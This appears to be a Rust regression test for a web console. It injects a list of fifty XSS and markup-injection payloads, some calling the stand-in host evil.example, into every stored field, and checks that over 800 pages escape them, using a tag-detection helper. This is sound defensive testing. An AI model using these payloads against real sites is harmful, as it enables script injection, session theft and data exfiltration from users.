//! Stored text never becomes markup, whatever field contains it and whatever page shows it.

use axum::http::StatusCode;
use kenning_testkit::take_in;
use serde_json::json;

use crate::Site;

/// Texts by which attackers try to add markup. `PWN` marks the parts that would be theirs.
const ATTACKS: [&str; 50] = [
    "<script>PWN(1)</script>",
    "<SCRIPT SRC=//evil.example/PWN.js></SCRIPT>",
    "<scr<script>ipt>PWN(1)</scr</script>ipt>",
    "</textarea><script>PWN(1)</script>",
    "</title><script>PWN(1)</script>",
    "</style><script>PWN(1)</script>",
    "</script><script>PWN(1)</script>",
    "\"><script>PWN(1)</script>",
    "'><script>PWN(1)</script>",
    "--><script>PWN(1)</script>",
    "]]><script>PWN(1)</script>",
    "<img src=x onerror=PWN(1)>",
    "<img src=\"https://evil.example/PWN.png\">",
    "\" onmouseover=\"PWN(1)",
    "' onfocus='PWN(1)' autofocus='",
    "` onload=`PWN(1)",
    "<svg onload=PWN(1)>",
    "<svg><script>PWN(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:PWN(1)\"><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=PWN(1)></style></mtext></math>",
    "<iframe src=\"javascript:PWN(1)\"></iframe>",
    "<iframe srcdoc=\"<script>PWN(1)</script>\"></iframe>",
    "<object data=\"https://evil.example/PWN\"></object>",
    "<embed src=\"https://evil.example/PWN\">",
    "<link rel=stylesheet href=\"https://evil.example/PWN.css\">",
    "<style>@import 'https://evil.example/PWN.css';</style>",
    "<div style=\"background:url(https://evil.example/PWN)\">x</div>",
    "<base href=\"https://evil.example/PWN\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/PWN\">",
    "<form action=\"https://evil.example/PWN\"><input name=token></form>",
    "<button formaction=\"https://evil.example/PWN\">x</button>",
    "<video><source onerror=PWN(1)></video>",
    "<body onload=PWN(1)>",
    "<details open ontoggle=PWN(1)>",
    "<a href=\"javascript:PWN(1)\">x</a>",
    "[x](javascript:PWN(1))",
    "[x](JaVaScRiPt:PWN(1))",
    "[x](  javascript:PWN(1))",
    "[x](data:text/html;base64,PWN)",
    "[x](vbscript:PWN(1))",
    "![x](https://evil.example/PWN.png)",
    "![x](javascript:PWN(1))",
    "[x](https://evil.example/\"onclick=\"PWN(1))",
    "<javascript:PWN(1)>",
    "[x]: javascript:PWN(1)\n\n[x]",
    "```\"><script>PWN(1)</script>\n```",
    "{{constructor.constructor('PWN(1)')()}}",
    "\u{202e}<script>PWN(1)</script>",
    "<\u{0}script>PWN(1)</script>",
    "&lt;script&gt;PWN(1)&lt;/script&gt; &#60;script&#62;",
];

/// Markup in a page that must come from stored text, because the console has no such elements and attributes.
fn brought(page: &str) -> Option<&str> {
    // Looks at everything between `<` and `>`; escaped text has no such characters.
    let mut rest = page;
    while let Some(start) = rest.find('<') {
        let tag = &rest[start..];
        let end = tag_end(tag);
        let tag = &tag[..end];
        let lower = tag.to_ascii_lowercase();
        let name = lower.trim_start_matches(['<', '/']);
        let is_own_script =
            name.starts_with("script type=\"module\" src=\"/console/assets/") || lower == "</script>";
        let is_foreign = (name.starts_with("script") && !is_own_script)
            || ["img", "iframe", "object", "embed", "base", "video", "math", "style", "source"].iter().any(
                |element| {
                    name.strip_prefix(element)
                        .is_some_and(|rest| !rest.starts_with(|c: char| c.is_ascii_alphanumeric()))
                },
            );
        let outside = without_values(&lower);
        let has_handler = outside.split_whitespace().skip(1).any(|attribute| attribute.starts_with("on"));
        let has_style = outside.contains(" style=");
        let leads_away =
            [" href=\"javascript", " href=\"data", " href=\"vbscript", " src=\"http", " action=\"http"]
                .iter()
                .any(|bad| lower.contains(bad));
        if is_foreign || has_handler || has_style || leads_away {
            return Some(tag);
        }
        rest = &rest[start + end..];
    }
    None
}

/// The end of a tag. A `>` inside of a quoted value does not end it.
fn tag_end(tag: &str) -> usize {
    let mut in_value = false;
    for (at, c) in tag.char_indices() {
        match c {
            '"' => in_value = !in_value,
            '>' if !in_value => return at + 1,
            _ => {}
        }
    }
    tag.len()
}

fn without_values(tag: &str) -> String {
    tag.split('"').step_by(2).collect::<Vec<_>>().join(" ")
}

#[test]
fn the_check_finds_what_it_looks_for() {
    for (page, is_found) in [
        ("<p>a</p>", false),
        ("<p onclick=\"x\">", true),
        ("<a title=\"> onclick=x\">", false),
        ("<script>x</script>", true),
        ("<img src=x>", true),
        ("<image-like>", false),
        ("<a href=\"javascript:x\">", true),
        ("&lt;script&gt;", false),
    ] {
        assert_eq!(brought(page).is_some(), is_found, "{page}");
    }
}

#[test]
fn fifty_injections_in_every_stored_field_never_become_markup() {
    let site = Site::filled();
    let mut ids = Vec::new();
    for (number, attack) in ATTACKS.iter().enumerate() {
        let tag: String = attack.chars().take(60).collect();
        let stored = site.call(
            "store",
            json!({
                "topic": attack, "content": format!("{attack}\n\nnumber {number}"), "context": attack,
                "tags": [tag], "source": attack, "scope": "acme:web",
            }),
        );
        ids.push(stored["id"].as_str().expect("an id").to_owned());
        site.call("update", json!({"id": ids[number], "content": format!("{attack} again {attack}")}));
        site.call("relate", json!({"subject": attack, "predicate": attack, "object": format!("{attack} 2"), "source": attack, "scope": "acme:web"}));
        let name = format!("page-{number}.md");
        let text = format!("---\ntitle: {}\n---\n\n# {attack}\n\n{attack}\n\n`{attack}`\n", json!(attack));
        // A file with a zero byte is not text and is not ingested.
        take_in(&site.engine, "attacks", &name, &text.replace('\0', ""));
    }
    site.call("create_scope", json!({"scope": "acme:attacked", "description": ATTACKS[0]}));
    let encoded = |text: &str| form_urlencoded::byte_serialize(text.as_bytes()).collect::<String>();
    let mut pages: Vec<String> = [
        "",
        "/search",
        "/history",
        "/contradictions",
        "/contradictions?kind=duplicates",
        "/documents?scope=global:default&source=attacks",
        "/patterns",
        "/graph",
        "/sessions",
        "/settings",
        "/time",
        "/search?kind=documents&q=PWN",
        "/task?queries=PWN&scope=acme:web",
    ]
    .map(|path| format!("/console{path}"))
    .to_vec();
    pages.extend((0..8).map(|page| format!("/console/history?page={page}")));
    for (id, attack) in ids.iter().zip(ATTACKS) {
        pages.push(format!("/console/entry/{id}"));
        pages.push(format!("/console/entry/{id}/edit"));
        let attack = encoded(attack);
        for path in [
            "search?q=",
            "search?tag=",
            "search?source=",
            "search?scope=",
            "search?actor=",
            "graph?name=",
            "graph?to=x&name=",
            "history?actor=",
            "history?tool=",
            "patterns?words=",
            "task?queries=",
            "new?content=",
            "time?moment=",
            "entry/",
            "tx/",
        ] {
            pages.push(format!("/console/{path}{attack}"));
        }
    }
    let listed = site.get("/console/documents?scope=global:default&source=attacks").text;
    let documents = listed.split("href=\"").filter(|part| part.starts_with("/console/document/"));
    pages.extend(documents.map(|part| part.split('"').next().expect("an address").to_owned()));
    assert!(pages.len() > 800, "{}", pages.len());
    for path in pages {
        let answer = site.get(&path);
        assert!(
            answer.status != StatusCode::INTERNAL_SERVER_ERROR
                && answer.status != StatusCode::SERVICE_UNAVAILABLE,
            "{path}: {}",
            answer.text
        );
        assert_eq!(brought(&answer.text), None, "{path}");
    }
    // The attack is shown as text.
    assert!(
        site.get(&format!("/console/entry/{}", ids[0])).text.contains("&lt;script&gt;PWN(1)&lt;/script&gt;")
    );
}
